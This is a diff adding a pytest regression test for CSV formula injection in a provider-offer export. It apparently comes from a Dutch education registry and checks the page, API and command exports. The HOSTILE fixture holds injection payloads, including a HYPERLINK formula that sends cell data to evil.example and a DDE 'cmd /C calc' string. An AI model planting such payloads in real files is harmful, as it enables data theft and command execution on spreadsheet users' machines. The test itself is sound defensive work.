@@ -428,3 +428,79 @@ def test_csv_export_imports_again_unchanged(
     assert {o.code: content(o) for o in Offer.objects.filter(opleider=roc)} == before
     # And the export of the copy is the same file.
     assert "".join(export_provider_csv(other)) == exported
+
+
+#: Issue 14, finding 4: what the provider export wrote back as it was.
+HOSTILE = {
+    "title": "Lassen; =HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")",
+    "description": "@SUM(1+1)*cmd|' /C calc'!A0 " + DESCRIPTION,
+    "skills": ["+31 6 1234 5678", "-2+3", "'=al een aanhalingsteken", "Lassen"],
+    "occupations": ["=1+1", "Lasser"],
+    "unitCode": "-K0789",
+}
+
+
+def test_csv_export_neutralises_formulas_and_imports_again_unchanged(
+    roc: Opleider, make_provider: Callable[..., Opleider], tmp_path: Any
+) -> None:
+    """The CSV-injection round trip: hostile values in every text column a provider fills in
+    come out with no cell a spreadsheet reads as a formula, through the page, the API and the
+    command alike, and import again exactly as they were."""
+    import csv
+    import io
+    import re
+
+    from django.core.management import call_command
+    from django.test import Client
+
+    from llo.core import csvio
+    from llo.people.models import User
+    from llo.register.exporters import export_provider_csv
+
+    payload = ooapi_file()
+    course = payload["courses"][0]
+    course["name"][0]["value"] = HOSTILE["title"]
+    course["description"][0]["value"] = HOSTILE["description"]
+    course["ext"].update(
+        skills=HOSTILE["skills"], occupations=HOSTILE["occupations"], unitCode=HOSTILE["unitCode"]
+    )
+    payload["programmes"][0]["description"][0]["value"] = "-2+3 " + DESCRIPTION
+    assert run(roc, payload).ok  # drafts: the admission checks have not run yet
+
+    exported = "".join(export_provider_csv(roc))
+    user = User.objects.create_user(
+        username=f"opleider:{roc.kvk}", role="opleider", organisation=roc.organisation
+    )
+    client = Client()
+    client.force_login(user)
+    page = client.get("/mijn-aanbod/export.csv")
+    api = client.get(f"/api/v1/providers/{roc.kvk}/export", {"format": "csv"})
+    target = tmp_path / "aanbod.csv"
+    call_command("register_export", roc.kvk, str(target), format="csv")
+    for response in (page, api):
+        assert response["Content-Type"] == "text/csv; charset=utf-8"
+        assert b"".join(response.streaming_content).decode() == exported
+    assert target.read_bytes().decode("utf-8") == exported
+
+    # No cell a spreadsheet can see, whichever separator it guesses, starts a formula.
+    for piece in re.split(r"[,;\t\r\n]", exported.lstrip("\ufeff")):
+        start = piece.lstrip(' "')
+        assert start[:1] not in csvio.FORMULA_START or re.fullmatch(r"-?\d+", start), piece
+    rows = list(csv.DictReader(io.StringIO(exported.lstrip("\ufeff"), newline=""), delimiter=";"))
+    written = next(r for r in rows if r["code"] == "MC-LAS")
+    assert written["description"].startswith("'@SUM")
+    assert written["skills"] == "'+31 6 1234 5678|-2+3|'=al een aanhalingsteken|Lassen"
+
+    def content(o: Offer) -> dict[str, Any]:
+        snap = services.snapshot(o)
+        snap.pop("part_of")
+        return {**snap, "part_of": o.part_of.code if o.part_of else None}
+
+    before = {o.code: content(o) for o in Offer.objects.filter(opleider=roc)}
+    assert before["MC-LAS"]["title"] == HOSTILE["title"]
+    assert before["MC-LAS"]["skills"] == HOSTILE["skills"]
+    other = make_provider("ROC Kopie", kind="public", marks=("ocw", "nrto", "crkbo"))
+    report = run(other, exported.encode(), filename="aanbod.csv")
+    assert report.ok, report.as_dict()
+    assert {o.code: content(o) for o in Offer.objects.filter(opleider=other)} == before
+    assert "".join(export_provider_csv(other)) == exported
